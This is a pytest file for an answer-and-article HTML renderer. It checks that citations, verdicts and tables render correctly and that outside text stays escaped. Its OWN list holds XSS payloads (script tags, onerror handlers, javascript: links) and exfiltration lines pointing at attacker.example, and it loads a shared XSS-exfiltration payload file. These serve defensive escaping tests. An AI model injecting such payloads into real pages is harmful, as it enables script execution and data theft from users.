"""What is drawn: the right words in the right elements, and no HTML that came from outside."""

import json
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from footnote import Answer, Found, Outcome, Sentence
from footnote.assistant.answer import Citation, Correction, Reckoning, Step, Verdict, Withheld
from footnote.assistant.serve.page.article_html import (
    PART,
    article_html,
    direction,
    mark_id,
    spoken,
    version_of,
)
from footnote.assistant.serve.page.html import (
    answer_html,
    draft_html,
    problem_html,
    stage_html,
    turn_html,
)
from footnote.assistant.show.markup import Html, join, tag
from footnote.index.article import Article, Unit
from footnote.index.read import clean, read_text
from footnote.index.split.hidden import visible
from footnote.index.split.units import split
from tests.conftest import SHARED

TAGS = {
    "a", "article", "blockquote", "button", "details", "div", "em", "figcaption", "figure",
    "footer", "h2", "h3", "h4", "h5", "h6", "li", "mark", "ol", "p", "pre", "q", "section",
    "small", "span", "summary", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {
    "aria-busy", "aria-describedby", "aria-label", "aria-labelledby", "aria-live", "class",
    "data-article", "data-at", "data-do", "data-pages", "data-rated", "data-seal", "data-version",
    "dir", "hidden", "href", "id", "lang", "rel", "role", "scope", "tabindex",
    "target", "title", "type", "value",
}  # fmt: skip

OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</p></div></article><iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>here</a> and [there](javascript:alert(1))",
    "![x](https://attacker.example/p.png?d=SECRET)",
    "<style>*{background:url(https://attacker.example/)}</style>",
    "<!-- --!><base href='https://attacker.example/'>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} {context} %s",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "$\\href{javascript:alert(1)}{x}$",
    "\x00\ud800\u202e<b>x</b>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


def _shared() -> list[str]:
    file = SHARED / "attacks" / "xss_exfil_payloads.jsonl"
    if not file.is_file():
        return []
    return [json.loads(line)["payload"] for line in file.read_text("utf-8").splitlines() if line]


class Seen(HTMLParser):
    """Reads HTML as a browser does, near enough: the elements, and the text inside each id."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.texts: dict[str, str] = {}
        self.strays: list[str] = []
        self._open: list[tuple[str, str]] = []
        self.feed(html)
        self.close()
        assert not self._open, "every element is closed"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._open.append((tag, dict(attrs).get("id") or ""))

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop()[0] == tag

    def handle_data(self, data: str) -> None:
        self.text += data
        for _, id in self._open:
            self.texts[id] = self.texts.get(id, "") + data

    def handle_comment(self, data: str) -> None:
        self.strays.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    def having(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.elements if name == tag]


def check_only_ours(html: str) -> Seen:
    seen = Seen(html)
    assert not seen.strays
    for name, attributes in seen.elements:
        assert name in TAGS
        assert set(attributes) <= ATTRIBUTES
        href = attributes.get("href") or "#"
        assert href.startswith("#") or attributes["class"] == "outside"
    return seen


def citation(quote: str, number: int = 1, start: int = 0, **more: object) -> Citation:
    return Citation(number, "0" * 12, "f" * 64, start, start + len(quote), quote, **more)  # type: ignore[arg-type]


def cite_unit(article: Article, unit: Unit, number: int = 1) -> Citation:
    words = article.text[unit.start : unit.end]
    return Citation(number, article.id, article.sha256, unit.start, unit.end, words, unit.headings)


def answer_of(words: str) -> Answer:
    """An answer with these words in every field that holds words."""
    proof = citation(words, headings=(words, words), kind="cell", row=words, column=words)
    return Answer(
        question=words,
        asked=f"{words} again",
        outcome=Outcome.PARTLY,
        text=words,
        sentences=(Sentence(words, 0, len(words), Verdict.PARTLY, (1,)),),
        citations=(proof,),
        withheld=(Withheld(words, Verdict.UNSUPPORTED, words),),
        missing=words,
        nearest=proof,
        model=words,
        note=words,
    )


def documents_of(words: str) -> Iterator[Article]:
    line = " ".join(words.split()) or "-"
    cell = line.replace("|", "\\|")
    text = (
        f"# {line}\n\n{words}\n\nA list follows: {line}\n\n- {line}\n- two\n\n"
        f"| {cell} | b |\n|---|---|\n| c | {cell} |\n\nThe end."
    )
    yield Article.from_text(clean(text), title=words)
    kept = words.encode("utf-8", "replace").decode().replace("\0", "\x01")
    yield Article.from_text(kept, title=words)


# --- nothing from outside becomes HTML --------------------------------------------------------


@pytest.mark.parametrize("words", OWN, ids=range(len(OWN)))
def test_bad_61_words_from_outside_stay_words(words: str) -> None:
    check_words(words)


def test_bad_61_all_shared_payloads_stay_words() -> None:
    payloads = _shared()
    if not payloads:
        pytest.skip("../shared/attacks isn't on this machine")
    for words in payloads:
        check_words(words)


def titled(title: str) -> Article:
    return Article.from_text("Text.", title=title)


def check_words(words: str) -> None:
    answer = answer_of(words)
    found = Found(words, (), answer.nearest)
    drawn = [
        answer_html(answer, "a1", {"0" * 12: titled(words)}, several=True),
        draft_html("x", found, words, words),
        problem_html(words),
        stage_html(words),
        turn_html("a1", words, words),
        *(article_html(one) for one in documents_of(words)),
    ]
    for html in drawn:
        check_only_ours(html)
    shown = words.encode("utf-8", "replace").decode()
    for html in drawn[:5]:
        assert shown.replace("\x00", "") in Seen(html).text.replace("\x00", "").replace(
            "\ufffd", ""
        )


def test_a_piece_is_escaped_unless_it_is_html() -> None:
    assert join("<b>", Html("<i></i>")) == "&lt;b&gt;<i></i>"
    assert tag("p", 'a"b', title='"><x', class_="c") == (
        '<p title="&quot;&gt;&lt;x" class="c">a&quot;b</p>'
    )
    assert tag("p", tabindex=0, id="") == '<p tabindex="0"></p>'


# --- the answer -------------------------------------------------------------------------------


def test_sentences_carry_numbers_that_lead_to_their_quotes() -> None:
    proofs = (citation("Alpha is.", 1), citation("Beta is.", 2, 10))
    text = "A is. B is.\n- One.\n- Two."
    spans = [("A is.", (1,)), ("B is.", (1, 2)), ("One.", ()), ("Two.", (2,))]
    sentences = tuple(
        Sentence(words, text.index(words), text.index(words) + len(words), Verdict.SUPPORTED, cites)
        for words, cites in spans
    )
    answer = Answer("q", "q", Outcome.ANSWERED, text, sentences, proofs)
    seen = check_only_ours(answer_html(answer, "a7"))
    links = [one for one in seen.having("a") if one.get("aria-describedby")]
    assert [one["href"] for one in links] == [f"#{mark_id(proofs[i])}" for i in (0, 0, 1, 1)]
    assert [one["id"] for one in links if "id" in one] == ["a7-c1", "a7-c2"]
    places = {one["href"] for one in seen.having("a")}
    assert places == {f"#m-{'0' * 12}-0-9", f"#m-{'0' * 12}-10-18"}
    assert seen.texts["a7-q1"] == "1Alpha is."
    assert len(seen.having("ul")) == 1
    assert len(seen.having("ol")) == 1
    assert len([one for one in seen.having("span") if "supported" in (one.get("class") or "")]) == 4


def test_a_quote_says_where_it_stands() -> None:
    proof = citation("pending", headings=("Title", "Part"), kind="cell", row="Aid", column="Status")
    answer = Answer(
        "q", "Aid?", Outcome.NOT_IN_ARTICLE, missing="The article doesn't say.", nearest=proof
    )
    assert (
        "Part · Aid, Status"
        in Seen(answer_html(answer, "a1", {proof.article_id: titled("Title")})).text
    )
    several = answer_html(answer, "a1", {proof.article_id: titled("Title")}, several=True)
    assert "Title — Part · Aid, Status" in Seen(several).text


def test_a_question_and_the_article_that_corrects_it_stand_side_by_side() -> None:
    said = "Trump ordered it."
    answer = Answer(
        "Why did Biden <b>order</b> it?",
        "Why did Biden <b>order</b> it?",
        Outcome.CORRECTED,
        said,
        (Sentence(said, 0, len(said), Verdict.SUPPORTED, (1,)),),
        (citation(said, 1),),
        missing="The question says “Biden”, and the article says “Trump”.",
        correction=Correction("Biden", "Trump"),
    )
    drawn = answer_html(answer, "a1")
    seen = check_only_ours(drawn)
    classes = [one["class"] for one in seen.having("div") if one.get("class")]
    assert classes[1:4] == ["sides", "side claimed", "side said"]
    assert '<em class="differs">Biden</em> &lt;b&gt;order' in drawn
    assert drawn.index("The question says") < drawn.index("The article</h3>") < drawn.index(said)


def test_a_source_whose_words_a_sentence_says_is_sent_without_them() -> None:
    proofs = (citation("Alpha is.", 1), citation("Beta\n is.", 2, 10), citation("Gamma.", 3, 20))
    text = "Alpha is. Beta is. So: Gamma."
    spans = (("Alpha is.", 1), ("Beta is.", 2), ("So: Gamma.", 3))
    sentences = tuple(
        Sentence(words, at, at + len(words), Verdict.SUPPORTED, (number,))
        for words, number in spans
        if (at := text.index(words)) >= 0
    )
    answer = Answer("q", "q", Outcome.ANSWERED, text, sentences, proofs)
    seen = check_only_ours(answer_html(answer, "a1"))
    assert [seen.texts[f"a1-q{number}"] for number in (1, 2, 3)] == ["1", "2", "3Gamma."]
    assert [one["class"] for one in seen.having("ol")] == ["sources untold"]


def test_every_source_has_a_place_as_soon_as_one_has() -> None:
    proofs = (citation("Alpha is.", 1), citation("Beta is.", 2, 10, headings=("Part",)))
    sentences = (
        Sentence("Alpha is.", 0, 9, Verdict.SUPPORTED, (1,)),
        Sentence("Beta is.", 10, 18, Verdict.SUPPORTED, (2,)),
    )
    answer = Answer("q", "q", Outcome.ANSWERED, "Alpha is. Beta is.", sentences, proofs)
    seen = check_only_ours(answer_html(answer, "a1", {"0" * 12: titled("Letters")}))
    assert [seen.texts[f"a1-q{number}"] for number in (1, 2)] == ["1Letters", "2Part"]
    assert [one["class"] for one in seen.having("ol")] == ["sources"]


def test_the_steps_to_an_answer_are_shown_with_their_proofs() -> None:
    answer = answer_of("It has <b>4</b> cranes.")
    told = Reckoning("count", "4 <i>cranes</i>", "4", ("4",), (1,), "cranes")
    steps = (Step("Which <b>port</b> is largest?", (1,), told), Step("How old is it?", (1,)))
    seen = check_only_ours(answer_html(replace(answer, steps=steps), "a1"))
    assert "In 2 steps" in seen.text
    assert "Which <b>port</b> is largest?4 <i>cranes</i>1" in seen.text
    assert "How old is it?1" in seen.text
    alone = replace(answer, steps=steps[:1])
    assert "In 1" not in Seen(answer_html(alone, "a1")).text


def test_a_line_that_was_reckoned_says_so() -> None:
    answer = answer_of("It has <b>4</b> cranes.")
    for how, word in (("count", "counted"), ("sum", "reckoned")):
        told = Reckoning(how, "4 <i>cranes</i>", "4", ("4",), (1,), "cranes")  # type: ignore[arg-type]
        seen = check_only_ours(answer_html(replace(answer, reckoning=told), "a1"))
        assert f"4 <i>cranes</i>{word} from the article's words below" in seen.text


def test_what_was_withheld_is_behind_one_line() -> None:
    one = Withheld("Mars is red.", Verdict.UNSUPPORTED, "too little of it is in the article")
    for withheld, line in (
        ((one,), "1 sentence wasn't supported by the article"),
        ((one, one), "2 sentences weren't supported by the article"),
    ):
        answer = Answer("q", "q", Outcome.NOT_IN_ARTICLE, missing="No.", withheld=withheld)
        seen = check_only_ours(answer_html(answer, "a1"))
        assert line in seen.text
        assert len(seen.having("details")) == 1
        assert "open" not in seen.having("details")[0]


def test_what_is_doubtful_is_marked_with_the_reason() -> None:
    for verdict, said in (
        (Verdict.PARTLY, "(only partly in the article)"),
        (Verdict.CONTRADICTED, "(contradicted by the article)"),
        (Verdict.SUPPORTED, ""),
    ):
        sentence = Sentence("It is.", 0, 6, verdict, (1,))
        answer = Answer("q", "q", Outcome.ANSWERED, "It is.", (sentence,), (citation("It is."),))
        seen = check_only_ours(answer_html(answer, "a1"))
        assert said in seen.text
        assert len(seen.having("small")) == bool(said)
        assert any(one.get("class") == f"sentence {verdict}" for one in seen.having("span"))


def test_a_quote_says_its_page_and_leads_to_the_words_on_the_web() -> None:
    text = "Alpha is. Beta is."
    article = Article.from_text(text, title="Letters", source="https://letters.example/a#x")
    proof = Citation(1, article.id, article.sha256, 0, 9, "Alpha is.", page=7)
    answer = Answer("q", "Alpha?", Outcome.NOT_IN_ARTICLE, missing="No.", nearest=proof)
    seen = check_only_ours(answer_html(answer, "a1", {article.id: article}))
    assert "page 7" in seen.text
    (link,) = [one for one in seen.having("a") if one.get("class") == "outside"]
    assert link["href"] == "https://letters.example/a#:~:text=Alpha%20is."
    for source in ("javascript:alert(1)", "/etc/passwd", "https", "//letters.example/"):
        local = replace(article, source=source)
        assert "outside" not in answer_html(answer, "a1", {article.id: local})


def test_a_rewritten_question_is_shown_and_an_equal_one_is_not() -> None:
    same = Answer("What  is it?", "What is it?", Outcome.ANSWERED)
    assert "Asked as" not in answer_html(same, "a1")
    other = Answer("And it?", "What is the aim?", Outcome.ANSWERED, note="The model failed.")
    text = Seen(answer_html(other, "a1")).text
    assert "Asked as: What is the aim?" in text
    assert "The model failed." in text


def test_a_turn_is_busy_until_its_answer_is_there() -> None:
    busy = check_only_ours(turn_html("a1", "Why?", stage_html("Looking…"), busy=True))
    assert [one["aria-busy"] for one in busy.having("div")] == ["true"]
    assert check_only_ours(turn_html("a1", "Why?")).having("div")[0]["aria-busy"] == "false"


# --- the article ------------------------------------------------------------------------------


def test_the_briefing_is_drawn_as_an_article(briefing: Article) -> None:
    seen = check_only_ours(article_html(briefing))
    assert len(seen.having("table")) == 3
    assert len(seen.having("ul")) == 3
    assert len(seen.having("li")) == 9
    assert [name for name, _ in seen.elements if name in ("h2", "h3", "h4")] == ["h2"] + ["h3"] * 4
    assert {one["scope"] for one in seen.having("th")} == {"col", "row"}
    words = " ".join(briefing.text[unit.start : unit.end] for unit in split(briefing))
    assert "".join(seen.text.split()) == "".join(words.split())


def test_an_article_says_who_wrote_it_and_when() -> None:
    article = Article.from_text(
        "One.",
        title="T",
        author="Ada <b>Swan</b>",
        date="2026-11-03",
        source="https://birds.example/x",
        pages=(0,),
    )
    seen = check_only_ours(article_html(article))
    assert "Ada <b>Swan</b> · 3 November 2026 · birds.example · 1 page" in seen.text
    assert spoken("2026-11") == "November 2026"
    assert spoken("2026") == "2026"
    assert "byline" not in article_html(Article.from_text("One.", title="T", source="/home/a.md"))


def test_the_way_a_text_runs_is_seen_from_its_letters() -> None:
    assert direction("One, two. 123") == "ltr"
    assert direction("النيل (Nile) نهر في أفريقيا") == "rtl"
    assert direction("123 …") == "ltr"


def test_every_unit_says_where_it_stands(briefing: Article) -> None:
    hidden = read_text("# T\n\n| A <!-- x --> | B |\n|---|---|\n| 1 | 2 |\n", name="t")
    returns = Article.from_text("One\rtwo \U0001d538 🙂.", title="T")
    for article in (briefing, hidden, returns):
        places = {f"{unit.start}-{unit.end}": unit for unit in split(article)}
        drawn = article_html(article).replace("<span data-at=", "<span id=")
        texts = {id: words for id, words in Seen(drawn).texts.items() if id}
        assert texts == {
            at: visible(article.text)[unit.start : unit.end] for at, unit in places.items()
        }


def test_an_article_that_is_drawn_otherwise_has_another_version(briefing: Article) -> None:
    others = [
        replace(briefing, **{field: "x"}) for field in ("title", "author", "date", "language")
    ]
    assert len({version_of(one) for one in (briefing, *others)}) == 5
    assert version_of(replace(briefing)) == version_of(briefing)


def test_an_empty_cell_keeps_its_place() -> None:
    article = read_text(
        "# T\n\n| | 2020 | 2021 |\n|---|---|---|\n| Water | | 5 |\n| Fish | 3 | 4 |\n", name="t"
    )
    html = article_html(article)
    rows = [row.split("</tr>")[0] for row in html.split("<tr>")[1:]]
    cells = [row.count("<td") + row.count("<th") for row in rows]
    assert cells == [3, 3, 3]
    assert "<td></td><td" in rows[1]


def test_numbered_items_keep_their_numbers() -> None:
    article = read_text("# T\n\nDo this:\n\n3. Boil the water.\n4. Add the tea.\n", name="t")
    seen = check_only_ours(article_html(article))
    assert [one.get("value") for one in seen.having("li")] == ["3", "4"]
    assert len(seen.having("ol")) == 1


def test_a_long_article_is_drawn_whole_in_parts() -> None:
    lines = [f"Sentence number {at} says something plain." for at in range(PART // 10)]
    article = read_text("# Long\n\n" + "\n\n".join(lines), name="long")
    seen = check_only_ours(article_html(article))
    assert [one for one in lines if one not in seen.text] == []
    parts = [one for one in seen.having("div") if one["class"] == "part"]
    assert len(parts) == -(-len(article.text) // PART)
